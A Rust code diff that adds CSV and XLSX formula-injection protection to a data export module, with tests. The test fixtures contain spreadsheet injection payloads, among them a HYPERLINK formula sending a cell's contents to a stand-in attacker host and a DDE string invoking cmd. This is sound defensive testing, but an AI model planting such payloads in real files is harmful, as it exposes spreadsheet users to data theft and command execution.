@@ -304,7 +304,7 @@ fn stream_csv(
                 )
             })?;
             cell.clear();
-            cell.push_str(text.trim());
+            cell.push_str(restored(text.trim()).trim());
         }
         cells.truncate(record.len());
         let at = record.position().map(|p| p.byte()).unwrap_or(0) + skipped as u64;
@@ -429,14 +429,52 @@ pub fn read_csv(file: &str, bytes: &[u8]) -> Result<Rows, DataError> {
             ),
         )
     })?;
-    csv_rows(file, text)
+    let mut rows = csv_rows(file, text)?;
+    for cell in rows.iter_mut().flatten() {
+        if restored(cell).len() != cell.len() {
+            *cell = restored(cell).trim().to_string();
+        }
+    }
+    Ok(rows)
 }
 
 /// Writes CSV with a UTF-8 byte-order mark, so that spreadsheet programs show Chinese correctly.
+/// A cell a spreadsheet would take for a formula gets a leading `'` ([`neutralised`]).
 pub fn write_csv(rows: &[Vec<String>]) -> Vec<u8> {
+    let rows: Vec<Vec<String>> = rows
+        .iter()
+        .map(|r| r.iter().map(|c| neutralised(c).into_owned()).collect())
+        .collect();
     let mut out = "\u{feff}".as_bytes().to_vec();
-    out.extend_from_slice(csv_text(rows).as_bytes());
+    out.extend_from_slice(csv_text(&rows).as_bytes());
     out
+}
+
+/// Whether a spreadsheet program opening a CSV file would read a cell as a formula (or, for a tab
+/// or carriage return, as one after trimming): it starts with `=`, `+`, `-`, `@`, a tab or a CR
+/// (OWASP, "CSV Injection"). A resident named `=HYPERLINK("http://…","点击")` would otherwise be a
+/// link, or a command, in the exporter's Excel.
+pub fn formula_like(cell: &str) -> bool {
+    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
+}
+
+/// A cell as written into a CSV file: prefixed with `'` when [`formula_like`], so that Excel and
+/// WPS show it as text. Reading a CSV file takes that `'` off again ([`restored`]), so exports
+/// import again unchanged.
+pub fn neutralised(cell: &str) -> std::borrow::Cow<'_, str> {
+    if formula_like(cell) {
+        format!("'{cell}").into()
+    } else {
+        cell.into()
+    }
+}
+
+/// A CSV cell as read: without the `'` [`neutralised`] put before a formula-like cell.
+fn restored(cell: &str) -> &str {
+    match cell.strip_prefix('\'') {
+        Some(rest) if formula_like(rest) => rest,
+        _ => cell,
+    }
 }
 
 /// Reads the first worksheet of an XLSX workbook. Cells keep their place: row 1 of the sheet is
@@ -525,6 +563,9 @@ pub fn write_sheets(sheets: &[(&str, &[Vec<String>])]) -> Result<Vec<u8>, DataEr
     let mut book = Workbook::new();
     let bold = CellFormat::new().set_bold();
     let text = CellFormat::new().set_num_format("@");
+    // Every cell is a string, never a formula; a formula-like one is also marked as Excel marks a
+    // cell typed with a leading `'` (quotePrefix), so that editing it does not make it one.
+    let quoted = CellFormat::new().set_num_format("@").set_quote_prefix();
     for (sheet, rows) in sheets {
         let ws = book.add_worksheet();
         ws.set_name(*sheet).map_err(fail)?;
@@ -533,7 +574,11 @@ pub fn write_sheets(sheets: &[(&str, &[Vec<String>])]) -> Result<Vec<u8>, DataEr
             for (c, cell) in row.iter().enumerate() {
                 let c = u16::try_from(c)
                     .map_err(|_| file_error(sheet, "列数超过上限".into(), "too many columns".into()))?;
-                let format = if r == 0 { &bold } else { &text };
+                let format = match (r, formula_like(cell)) {
+                    (0, _) => &bold,
+                    (_, true) => &quoted,
+                    _ => &text,
+                };
                 ws.write_string_with_format(r, c, cell, format).map_err(fail)?;
             }
         }
@@ -713,6 +758,63 @@ mod tests {
                 .iter()
                 .any(|e| e.problem == Problem::MissingColumn && e.column.as_deref() == Some("网格编码"))
         );
+    }
+
+    /// Cells a spreadsheet would run as formulas (OWASP's list), as an attacker would name a
+    /// resident or an organization.
+    fn formulas() -> Rows {
+        vec![
+            vec!["姓名".into(), "备注".into()],
+            vec![
+                "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")".into(),
+                "@SUM(1+1)*cmd|' /C calc'!A0".into(),
+            ],
+            vec!["+1+1".into(), "-2+3".into()],
+            vec!["\t=1+1".into(), "\r=1+1".into()],
+            vec!["张三".into(), "'已有引号".into()],
+        ]
+    }
+
+    #[test]
+    fn a_csv_export_writes_no_cell_a_spreadsheet_would_run_and_reads_back_unchanged() {
+        let bytes = write_rows(Format::Csv, "居民", &formulas()).unwrap();
+        let text = String::from_utf8(bytes.clone()).unwrap();
+        let cells = csv_rows("x.csv", &text).unwrap();
+        for cell in cells.iter().skip(1).flatten() {
+            assert!(!formula_like(cell), "{cell:?} is written as a formula");
+        }
+        assert_eq!(cells[1][0], "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")");
+        assert_eq!(cells[4], vec!["张三".to_string(), "'已有引号".into()]);
+        let mut expected = formulas();
+        expected[3] = vec!["=1+1".into(), "=1+1".into()]; // cells are trimmed when read
+        assert_eq!(read_rows("x.csv", &bytes).unwrap(), expected);
+        let (streamed, _) = streamed("x.csv", &bytes);
+        let streamed: Rows = streamed.into_iter().map(|(_, r)| r).collect();
+        assert_eq!(streamed, expected);
+    }
+
+    #[test]
+    fn an_xlsx_export_writes_formula_like_cells_as_quoted_text() {
+        let bytes = write_rows(Format::Xlsx, "居民", &formulas()).unwrap();
+        let mut book: Xlsx<_> = open_workbook_from_rs(Cursor::new(bytes.clone())).unwrap();
+        let formulas_found = book.worksheet_formula("居民").unwrap();
+        assert!(
+            formulas_found.used_cells().all(|(_, _, f)| f.is_empty()),
+            "no cell is a formula"
+        );
+        let styles = unzipped(&bytes, "xl/styles.xml");
+        assert!(styles.contains("quotePrefix=\"1\""), "{styles}");
+        let mut expected = formulas();
+        expected[3] = vec!["=1+1".into(), "=1+1".into()];
+        assert_eq!(read_rows("x.xlsx", &bytes).unwrap(), expected);
+    }
+
+    fn unzipped(xlsx: &[u8], name: &str) -> String {
+        use std::io::Read as _;
+        let mut zip = zip::ZipArchive::new(Cursor::new(xlsx)).unwrap();
+        let mut text = String::new();
+        zip.by_name(name).unwrap().read_to_string(&mut text).unwrap();
+        text
     }
 
     #[test]
